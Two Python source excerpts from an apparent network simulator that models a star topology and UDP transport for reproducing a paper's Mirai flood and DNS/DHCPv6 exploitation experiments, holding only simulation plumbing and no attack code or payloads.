        ipv6_prefix: str = "2001:db8:0:1",
        ipv4_prefix: str = "10.0.0.0",
        default_queue_packets: int = 100,
    ):
        self.sim = sim
        self.router = Node(sim, "internet-router")
        self.router.ip.forwarding = True
        self.links: Dict[Node, HostLink] = {}
        self._ipv6_pool = Ipv6AddressAllocator(ipv6_prefix)
        self._ipv4_pool = Ipv4AddressAllocator(ipv4_prefix)
        self.default_queue_packets = default_queue_packets
        #: router devices participating in DHCPv6 multicast fan-out
        self._dhcp6_fanout: List[PointToPointDevice] = []

    def attach_host(
        self,
        node: Node,
        data_rate_bps: float,
        delay: float = 0.010,
        downlink_rate_bps: Optional[float] = None,
        queue_packets: Optional[int] = None,
        dhcp6_multicast_member: bool = False,
    ) -> HostLink:
        """Wire ``node`` to the router over a fresh point-to-point link.

        ``data_rate_bps`` is the host's uplink rate; ``downlink_rate_bps``
        (defaults to the same) is the router->host direction — TServer's
        downlink is the DDoS bottleneck.  With ``dhcp6_multicast_member``
        the router fans DHCPv6 multicast out to this host (used for Devs,
        the targets of the RELAYFORW exploit).
        """
        if node in self.links:
            raise ValueError(f"{node.name} is already attached")
        queue_size = queue_packets or self.default_queue_packets
        channel = PointToPointChannel(self.sim, delay=delay)
        host_device = PointToPointDevice(
            self.sim, data_rate_bps, DropTailQueue(queue_size), name=f"{node.name}-eth0"
        )
        router_device = PointToPointDevice(
            self.sim,
            downlink_rate_bps or data_rate_bps,
            DropTailQueue(queue_size),
            name=f"router-to-{node.name}",
        )
        node.add_device(host_device)
        self.router.add_device(router_device)
        channel.attach(host_device)
        channel.attach(router_device)

        ipv6 = self._ipv6_pool.allocate()
        ipv4 = self._ipv4_pool.allocate()
        node.ip.add_address(host_device, ipv6)
        node.ip.add_address(host_device, ipv4)
        node.ip.set_default_device(host_device)
        self.router.ip.add_route(ipv6, router_device)
        self.router.ip.add_route(ipv4, router_device)

        link = HostLink(node, host_device, router_device, channel, ipv6, ipv4)
        self.links[node] = link
        if dhcp6_multicast_member:
            self._dhcp6_fanout.append(router_device)
            self.router.ip.add_multicast_route(
                ALL_DHCP_RELAY_AGENTS_AND_SERVERS, self._dhcp6_fanout
            )
        return link

    def link_of(self, node: Node) -> HostLink:
        return self.links[node]

    def address_of(self, node: Node, want_ipv6: bool = True) -> Address:
        link = self.links[node]
        return link.ipv6 if want_ipv6 else link.ipv4

    def set_host_up(self, node: Node, up: bool) -> None:
        """Churn hook: connect/disconnect a host's access link."""
        self.links[node].set_up(up)

    def checkpoint_state(self) -> list:
        """Per-link fingerprint state, ordered by host node name."""
        ordered = sorted(self.links.values(), key=lambda link: link.node.name)
        return [link.checkpoint_state() for link in ordered]

    def total_queue_drops(self) -> int:
        """Congestion losses across every queue in the star."""
        drops = 0
        for link in self.links.values():
            drops += link.host_device.queue.dropped
            drops += link.router_device.queue.dropped
        return drops
