"""UDP transport: connectionless datagram demux by destination port.

UDP carries most of the experiment series: DNS (Connman exploitation),
DHCPv6 (Dnsmasq exploitation) and the Mirai UDP-PLAIN flood itself.
"""

from __future__ import annotations

from typing import Callable, Dict, Optional, TYPE_CHECKING

from repro.netsim.address import Address
from repro.netsim.headers import PROTO_UDP, UdpHeader
from repro.netsim.packet import Packet, PacketTrain

if TYPE_CHECKING:  # pragma: no cover - typing only
    from repro.netsim.ip import IpStack

#: handler(packet, udp_header, ip_header) -> None
UdpHandler = Callable[[Packet, UdpHeader, object], None]

EPHEMERAL_PORT_START = 49152


class Udp:
    """Per-node UDP: port bindings plus an optional promiscuous handler.

    The promiscuous handler backs the paper's customized TServer sink,
    which must count *all* flood traffic regardless of destination port.
    """

    def __init__(self, ip: "IpStack"):
        self.ip = ip
        self.bindings: Dict[int, UdpHandler] = {}
        self.default_handler: Optional[UdpHandler] = None
        self._next_ephemeral = EPHEMERAL_PORT_START
        self.rx_datagrams = 0
        self.rx_unreachable = 0

    # ------------------------------------------------------------------
    # Binding
    # ------------------------------------------------------------------
    def bind(self, port: int, handler: UdpHandler) -> int:
        """Bind ``handler`` to ``port`` (0 allocates an ephemeral port)."""
        if port == 0:
            port = self.allocate_ephemeral_port()
        if port in self.bindings:
            raise OSError(f"{self.ip.node.name}: UDP port {port} already in use")
        self.bindings[port] = handler
        return port

    def unbind(self, port: int) -> None:
        self.bindings.pop(port, None)

    def allocate_ephemeral_port(self) -> int:
        while self._next_ephemeral in self.bindings:
            self._next_ephemeral += 1
        port = self._next_ephemeral
        self._next_ephemeral += 1
        return port

    def set_default_handler(self, handler: Optional[UdpHandler]) -> None:
        """Install a promiscuous handler for datagrams to unbound ports."""
        self.default_handler = handler

    # ------------------------------------------------------------------
    # Datapath
    # ------------------------------------------------------------------
    def send(
        self,
        packet: Packet,
        destination: Address,
        dst_port: int,
        src_port: int,
        source: Optional[Address] = None,
        ttl: int = 64,
    ) -> bool:
        """Stamp a UDP header and pass down to IP."""
        packet.add_header(UdpHeader(src_port, dst_port))
        return self.ip.send(packet, destination, PROTO_UDP, source, ttl)

    def send_datagram(
        self,
        payload: Optional[bytes],
        destination: Address,
        dst_port: int,
        src_port: int = 0,
        payload_size: Optional[int] = None,
        source: Optional[Address] = None,
        span: Optional[str] = None,
    ) -> bool:
        """Convenience wrapper building the packet in one call.

        ``span`` stamps the causal span ID onto the packet so queues and
        sinks can attribute drops/deliveries back to the originating
        attack train (no-op downstream when span tracking is off).
        """
        packet = Packet(payload, payload_size, created_at=self.ip.sim.now)
        if span is not None:
            packet.span = span
        return self.send(packet, destination, dst_port, src_port, source)

    def send_train(
        self,
        destination: Address,
        dst_port: int,
        count: int,
        src_port: int = 0,
        payload_size: int = 0,
        source: Optional[Address] = None,
        span: Optional[str] = None,
    ) -> bool:
        """Send ``count`` identical junk datagrams as one
        :class:`~repro.netsim.packet.PacketTrain` (the flood fast path)."""
        packet = PacketTrain(payload_size, count, created_at=self.ip.sim.now)
        if span is not None:
            packet.span = span
        return self.send(packet, destination, dst_port, src_port, source)

    def receive(self, packet: Packet, ip_header) -> None:
        header = packet.remove_header(UdpHeader)
        self.rx_datagrams += packet.count
        handler = self.bindings.get(header.dst_port)
        if handler is None:
            handler = self.default_handler
        if handler is None:
            self.rx_unreachable += 1
            return
        handler(packet, header, ip_header)
